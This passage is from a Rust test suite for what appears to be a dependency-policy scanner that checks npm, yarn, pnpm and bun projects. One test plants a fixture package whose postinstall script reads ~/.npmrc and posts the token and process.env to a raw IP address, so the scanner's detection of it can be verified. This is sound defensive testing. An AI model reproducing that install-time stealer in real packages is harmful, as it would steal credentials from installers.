        stderr.contains("warning: `sources.allow` entry `bulwark-local-dep` expired on 2020-01-01"),
        "{stderr}"
    );
    let report = json(&output);
    let found = report["policy"]["violations"].as_array().unwrap();
    let expired = found
        .iter()
        .find(|v| v["check"] == "expired-entry")
        .unwrap_or_else(|| panic!("{}", describe(found)));
    assert_eq!(expired["location"]["file"], "bulwark.toml");
    let line = expired["location"]["line"].as_u64().unwrap() as usize;
    assert!(policy.lines().nth(line - 1).unwrap().contains("2020-01-01"));
    assert!(
        denied(found, "source-not-allowed", "bulwark-local-dep"),
        "the expired entry no longer allows the local dependency:\n{}",
        describe(found)
    );
    assert_eq!(output.status.code(), Some(1));
}

#[test]
fn init_writes_a_valid_starter_and_never_overwrites() {
    let dir = tempfile::tempdir().unwrap();
    let init = |dir: &Path| {
        Command::new(env!("CARGO_BIN_EXE_bulwark"))
            .arg("init")
            .arg(dir)
            .output()
            .unwrap()
    };
    assert_eq!(init(dir.path()).status.code(), Some(0));
    let written = std::fs::read_to_string(dir.path().join("bulwark.toml")).unwrap();
    assert!(written.starts_with("# bulwark.toml"));
    let again = init(dir.path());
    assert_eq!(again.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&again.stderr).contains("already exists"));
    // The starter applies as is.
    copy_dir(&generated("npm"), dir.path());
    let (code, _) = violations(dir.path(), &["--offline"]);
    assert!(code == 0 || code == 1);
}

#[test]
fn human_report_groups_by_level_with_a_summary() {
    let dir = strict_project("npm");
    plant(
        dir.path(),
        "package.json",
        "\"chalk\": \"4.1.2\"",
        "\"chalk\": \"^4.1.2\"",
        false,
    );
    let policy = format!("{STRICT}\n[release-age]\nminimum = \"7d\"\n");
    std::fs::write(dir.path().join("bulwark.toml"), policy).unwrap();
    let output = bulwark(dir.path(), &["--offline"]);
    assert_eq!(output.status.code(), Some(1));
    let text = String::from_utf8(output.stdout).unwrap();
    let deny = text.find("  DENY (1)\n").expect("deny group");
    let warn = text.find("  WARN (").expect("warn group");
    assert!(deny < warn, "{text}");
    assert!(text.contains("unpinned-dependency  \"chalk\": \"^4.1.2\" in dependencies is a range; pin an exact version\n      package.json:"), "{text}");
    assert!(
        text.trim_end()
            .lines()
            .last()
            .unwrap()
            .starts_with("Policy denied: 1 denied, "),
        "{text}"
    );
}

/// Keeps a formatted string alive for a `&'static str` table row.
fn leak(text: String) -> &'static str {
    Box::leak(text.into_boxed_str())
}

/// The README's example: the policy "approved registries and packages only, pinned, sha512,
/// no install scripts but esbuild and sharp, 7-day minimum age" on a project that breaks it.
#[test]
fn example_policy_violations_project_is_denied() {
    let dir = project(&repo_root().join("examples/policy-violations"));
    let (code, found) = violations(dir.path(), &["--offline"]);
    assert_eq!(code, 1);
    let denied: Vec<(String, String)> = found
        .iter()
        .filter(|v| v["level"] == "deny")
        .map(|v| {
            (
                v["check"].as_str().unwrap().to_owned(),
                v["package"]["name"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let expected = [
        ("unpinned-dependency", "chalk"),
        ("package-not-approved", "core-js"),
        ("package-not-approved", "left-pad"),
        ("install-script-not-allowed", "core-js"),
    ];
    let expected: Vec<(String, String)> = expected
        .iter()
        .map(|(c, n)| ((*c).to_owned(), (*n).to_owned()))
        .collect();
    assert_eq!(denied, expected, "{}", describe(&found));
    // Offline with no cache, every registry package is undated (a warning here).
    assert!(
        found
            .iter()
            .filter(|v| v["level"] == "warn")
            .all(|v| v["check"] == "release-age-unknown")
    );
}

/// An installed tree (no lockfile) whose `colors-helper` has a postinstall that posts
/// `~/.npmrc` to a raw IP: the analysis finding, the install-script check and the SARIF
/// related locations (the package's files) all show up, and the SARIF still validates.
#[test]
fn code_findings_in_sarif_with_package_file_locations() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let write = |path: &str, text: &str| common::write(&root.join(path), text);
    write(
        "package.json",
        r#"{"name":"app","version":"1.0.0","dependencies":{"colors-helper":"1.0.1"}}"#,
    );
    write(
        "node_modules/colors-helper/package.json",
        "{\n  \"name\": \"colors-helper\",\n  \"version\": \"1.0.1\",\n  \"main\": \"index.js\",\n  \"scripts\": { \"postinstall\": \"node setup.js\" }\n}\n",
    );
    write(
        "node_modules/colors-helper/index.js",
        "module.exports = (s) => s;\n",
    );
    write(
        "node_modules/colors-helper/setup.js",
        "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n\
         const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
         const req = https.request({ hostname: '45.61.12.9', path: '/c', method: 'POST' });\n\
         req.write(JSON.stringify({ token, env: process.env }));\nreq.end();\n",
    );
    write("bulwark.toml", "[install-scripts]\nlevel = \"deny\"\n");
    let sarif_path = root.join("out.sarif");
    let output = Command::new(env!("CARGO_BIN_EXE_bulwark"))
        .arg("scan")
        .arg(root)
        .args([
            "--no-db",
            "--offline",
            "--fail-on",
            "never",
            "--format",
            "sarif",
        ])
        .arg("--cache")
        .arg(root.join("analysis-cache.sqlite3"))
        .arg("-o")
        .arg(&sarif_path)
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(1),
        "malicious code is deny by default: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let log: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&sarif_path).unwrap()).unwrap();
    let results = log["runs"][0]["results"].as_array().unwrap();
    let code = results
        .iter()
        .find(|r| r["ruleId"] == "malicious-code")
        .unwrap_or_else(|| panic!("{log:#}"));
    let related = code["relatedLocations"].as_array().unwrap();
    assert!(
        related
            .iter()
            .any(|l| l["physicalLocation"]["artifactLocation"]["uri"]
                == "node_modules/colors-helper/setup.js"),
        "{code:#}"
    );
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "install-script-not-allowed"),
        "{log:#}"
    );
    assert!(
        !results.iter().any(|r| r["ruleId"] == "malicious-package"),
        "a finding is reported once, not again as its policy violation"
    );
    assert_validates(&sarif_schema(), &sarif_path, "SARIF");
}

#[test]
fn unpinned_dependency_of_a_workspace_member_in_every_format() {
    for (manager, _) in FORMATS {
        let dir = strict_project(manager);
        plant(
            dir.path(),
            "packages/a/package.json",
            "\"ms\": \"2.1.3\"",
            "\"ms\": \"~2.1.3\"",
            false,
        );
        let (code, found) = violations(dir.path(), &["--offline"]);
        assert_eq!(code, 1, "{manager}:\n{}", describe(&found));
        let hit = found
            .iter()
            .find(|v| v["check"] == "unpinned-dependency")
            .unwrap_or_else(|| panic!("{manager}:\n{}", describe(&found)));
        assert_eq!(
            hit["location"]["file"], "packages/a/package.json",
            "{manager}"
        );
        assert_eq!(hit["package"]["version"], "~2.1.3");
    }
}

/// Without a policy the human report still ends with one line: the findings by severity.
#[test]
fn human_report_without_policy_ends_with_a_findings_summary() {
    let dir = planted_demo();
    let output = bulwark(dir.path(), &[]);
    assert_eq!(output.status.code(), Some(1));
    let text = String::from_utf8(output.stdout).unwrap();
    assert_eq!(
        text.trim_end().lines().last(),
        Some("Findings: 1 (1 critical)"),
        "{text}"
    );
    assert!(
        !text.contains("Policy"),
        "no policy section without bulwark.toml"
    );
}

/// Without its `[sources] allow` entries the strict policy denies the `file:` dependency in
/// every format (and bun's URL dependency, which bun records as a remote tarball).
#[test]
fn unlisted_local_and_remote_sources_in_every_format() {
    for (manager, _) in FORMATS {
        let dir = strict_project(manager);
        let policy = STRICT
            .replace(
                "  { name = \"is-odd\", reason = \"pinned tarball URL dependency (bun records the URL as its version)\" },\n",
                "",
            )
            .replace(
                "  { name = \"bulwark-local-dep\", reason = \"our vendored helper\" },\n",
                "",
            );
        assert_ne!(policy, STRICT);
        std::fs::write(dir.path().join("bulwark.toml"), policy).unwrap();
        let (code, found) = violations(dir.path(), &["--offline"]);
        assert_eq!(code, 1, "{manager}");
        let sources: Vec<&str> = found
            .iter()
            .filter(|v| v["check"] == "source-not-allowed" && v["level"] == "deny")
            .map(|v| v["package"]["name"].as_str().unwrap())
            .collect();
        let expected: &[&str] = if manager == "bun" {
            &["bulwark-local-dep", "is-odd"]
        } else {
            &["bulwark-local-dep"]
        };
        assert_eq!(sources, expected, "{manager}:\n{}", describe(&found));
    }
}

/// yarn 1 without `integrity` and without the `#sha1` fragment has no hash at all.
#[test]
fn yarn1_without_any_hash_is_missing_integrity() {
    let dir = strict_project("yarn1");
    plant(
        dir.path(),
        "yarn.lock",
        "chalk-4.1.2.tgz#aac4e2b7734a740867aeb16bf02aad556a1e7a01\"",
        "chalk-4.1.2.tgz\"",
        false,
    );
    plant(
        dir.path(),
        "yarn.lock",
        &format!("  integrity {CHALK_SRI}\n"),
        "",
        false,
    );
    expect_denied_offline(dir.path(), "integrity-missing", "chalk");
}

/// A project locked by the real pnpm 10 or bun (`policy_fixtures/builds/<variant>`), with
/// esbuild's real installed `package.json` (a postinstall) planted under `node_modules`, and a
/// policy that allows no install scripts: the install-script violations of esbuild.
fn esbuild_build_violations(variant: &str, policy: &str) -> (i32, Vec<serde_json::Value>) {
    let builds = fixtures().join("builds");
    let dir = project(&builds.join(variant));
    let esbuild = dir.path().join("node_modules/esbuild");
    std::fs::create_dir_all(&esbuild).unwrap();
    std::fs::copy(
        builds.join("esbuild.package.json"),
        esbuild.join("package.json"),
    )
    .unwrap();
    std::fs::write(dir.path().join("bulwark.toml"), policy).unwrap();
    let (code, found) = violations(dir.path(), &["--offline"]);
    let scripts = found
        .into_iter()
        .filter(|v| v["check"] == "install-script-not-allowed")
        .collect();
    (code, scripts)
}

/// pnpm's `onlyBuiltDependencies` / `neverBuiltDependencies` / `allowBuilds` and bun's
/// `trustedDependencies`: a package the manager will never build is no violation; one it is
/// told to build (or may build by default) still needs bulwark's allowlist.
#[test]
fn manager_build_allowlists_of_pnpm_10_and_bun() {
    let deny_all = "[install-scripts]\nlevel = \"deny\"\n";
    let cases = [
        // pnpm 10 itself builds nothing by default, but pnpm 9 and older build everything
        // and the lockfile does not say which pnpm installs.
        ("pnpm10-default", true),
        ("pnpm10-only-built-esbuild", true),
        ("pnpm10-package-json-only-built", true),
        ("pnpm10-allow-builds-true", true),
        ("pnpm10-only-built-other", false),
        ("pnpm10-never-built-esbuild", false),
        ("pnpm10-allow-builds-false", false),
        // bun's built-in trusted list (which has esbuild) applies without the field.
        ("bun-default", true),
        ("bun-trusted-esbuild", true),
        ("bun-trusted-other", false),
    ];
    for (variant, reported) in cases {
        let (code, found) = esbuild_build_violations(variant, deny_all);
        if reported {
            assert_eq!(code, 1, "{variant}:\n{}", describe(&found));
            assert_eq!(found.len(), 1, "{variant}:\n{}", describe(&found));
            assert_eq!(found[0]["package"]["name"], "esbuild");
            assert!(
                found[0]["message"]
                    .as_str()
                    .unwrap()
                    .contains("postinstall: `node install.js`"),
                "{variant}: {}",
                found[0]["message"]
            );
        } else {
            assert_eq!(code, 0, "{variant}:\n{}", describe(&found));
            assert!(found.is_empty(), "{variant}:\n{}", describe(&found));
        }
    }
    let allowed = "[install-scripts]\nlevel = \"deny\"\nallow = [{ name = \"esbuild\", version = \"0.20.2\", reason = \"downloads its platform binary\" }]\n";
    for variant in ["pnpm10-only-built-esbuild", "bun-trusted-esbuild"] {
        let (code, found) = esbuild_build_violations(variant, allowed);
        assert_eq!(code, 0, "{variant}:\n{}", describe(&found));
    }
}
